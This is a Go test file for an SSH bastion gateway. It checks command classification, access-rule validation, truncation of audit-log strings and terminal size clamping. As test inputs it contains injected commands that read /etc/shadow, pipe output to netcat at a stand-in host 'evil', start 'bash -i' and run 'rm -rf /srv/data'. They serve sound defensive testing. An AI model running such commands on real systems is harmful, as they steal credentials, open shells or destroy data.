package gateway

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/bastion-ssh/bastion/audit"
)

func TestCommandKind(t *testing.T) {
	for _, tc := range []struct{ line, want string }{
		{"scp -t /tmp/x", "scp"},
		{"scp -f /tmp/x", "scp"},
		{"/usr/bin/scp -d -t .", "scp"},
		{"rsync --server -vlogDtpre.iLsfxCIvu . /tmp/tree/", "rsync"},
		{"git-upload-pack '/srv/repo.git'", "git"},
		{"git-receive-pack '/srv/repo.git'", "git"},
		{"ls -l", "exec"},
		{"scp /a /b", "exec"},                      // not the server side
		{"scp -t x; cat /etc/shadow", "exec"},      // a second command
		{"scp -t $(cat /etc/shadow)", "exec"},      // substitution
		{"rsync --server . x | nc evil 1", "exec"}, // a pipe
		{"./scp -t x", "exec"},                     // a program of the user's
		{"/home/u/bin/git-upload-pack x", "exec"},  // ditto
		{"git-upload-pack x\nbash -i", "exec"},     // a newline is a second command
		{"rsync --daemon", "exec"},                 // not --server
		{"", "exec"},
	} {
		if got := commandKind(tc.line); got != tc.want {
			t.Errorf("commandKind(%q) = %q, want %q", tc.line, got, tc.want)
		}
	}
}

// FuzzCommandKind: a command line is classified as a file transfer (and
// so kept out of the byte-for-byte recording) only when the shell would
// run that one program.
func FuzzCommandKind(f *testing.F) {
	for _, s := range []string{"scp -t /x", "rsync --server . /x", "git-upload-pack 'r'", "scp -t x;id", "ls", "scp -f `id`"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		kind := commandKind(line)
		if kind == "exec" {
			return
		}
		if strings.ContainsAny(line, ";&|`$<>(){}\n\r\\*?[]!~#") {
			t.Fatalf("commandKind(%q) = %q although the line has shell syntax", line, kind)
		}
		prog := strings.Fields(line)[0]
		if strings.Contains(prog, "/") && !strings.HasPrefix(prog, "/usr/") {
			t.Fatalf("commandKind(%q) = %q for a program outside /usr", line, kind)
		}
	})
}

func TestAccessRuleMode(t *testing.T) {
	for _, tc := range []struct {
		rule AccessRule
		want string
	}{
		{AccessRule{}, ModeRecord},
		{AccessRule{Ports: []int{22}}, ModeRecord},
		{AccessRule{Ports: []int{22, 5432}}, ModeTunnel},
		{AccessRule{Ports: []int{2222}}, ModeTunnel},
		{AccessRule{Ports: []int{22}, Mode: ModeTunnel}, ModeTunnel},
		{AccessRule{Ports: []int{2222}, Mode: ModeRecord}, ModeRecord},
	} {
		if got := tc.rule.effectiveMode(); got != tc.want {
			t.Errorf("%+v: mode %q, want %q", tc.rule, got, tc.want)
		}
	}
	base := AccessRule{Principals: []string{"a"}, Hosts: []string{"h"}}
	for name, r := range map[string]AccessRule{
		"unknown mode":       {Mode: "mirror"},
		"root login":         {Logins: []string{"root"}},
		"ROOT login":         {Logins: []string{"ROOT"}},
		"logins in a tunnel": {Mode: ModeTunnel, Logins: []string{"deploy"}},
		"bad login":          {Logins: []string{"a b"}},
	} {
		r.Principals, r.Hosts = base.Principals, base.Hosts
		if err := r.validate(); err == nil {
			t.Errorf("%s: rule %+v accepted", name, r)
		}
	}
	ok := base
	ok.Logins = []string{"deploy"}
	if err := ok.validate(); err != nil {
		t.Errorf("a record rule with logins: %v", err)
	}
}

// TestBoundedIsCutOnce: a client string cut by bounded keeps its note of
// the real length when the record it goes into is bounded again.
func TestBoundedIsCutOnce(t *testing.T) {
	long := strings.Repeat("é", 30000)
	b := bounded(long)
	if len(b) > maxRecordedString || !strings.Contains(b, "bytes cut") || !utf8.ValidString(b) {
		t.Fatalf("bounded: %d bytes, valid %v", len(b), utf8.ValidString(b))
	}
	ev := boundEvent(audit.Event{Actor: b, Fields: map[string]string{"user": b}})
	if ev.Actor != b || ev.Fields["user"] != b {
		t.Error("boundEvent cut an already bounded string again, losing the real length")
	}
	if bounded("short") != "short" {
		t.Error("bounded changed a short string")
	}
}

// TestBoundKeepsTheTail: every client string bounded into a record keeps
// its end, where a padded command line or path hides what it does.
func TestBoundKeepsTheTail(t *testing.T) {
	cmd := strings.Repeat(": ; ", 2000) + "rm -rf /srv/data"
	for name, got := range map[string]string{
		"bounded":    bounded(cmd),
		"boundEvent": boundEvent(audit.Event{Fields: map[string]string{"command": cmd}}).Fields["command"],
		"boundList":  boundedList([]string{cmd})[0],
	} {
		if len(got) > maxRecordedString || !strings.HasSuffix(got, "rm -rf /srv/data") || !strings.HasPrefix(got, ": ; ") {
			t.Errorf("%s: %q; want head and tail kept", name, got)
		}
	}
}

// TestTermSizeClampsAsSSHD: a pty size of 0x7fffffff is recorded as sshd
// would use it.
func TestTermSizeClampsAsSSHD(t *testing.T) {
	if got := termSize(0x7fffffff); got != audit.MaxTermSize {
		t.Errorf("termSize(0x7fffffff) = %d, want %d", got, audit.MaxTermSize)
	}
	if got := termSize(80); got != 80 {
		t.Errorf("termSize(80) = %d", got)
	}
}
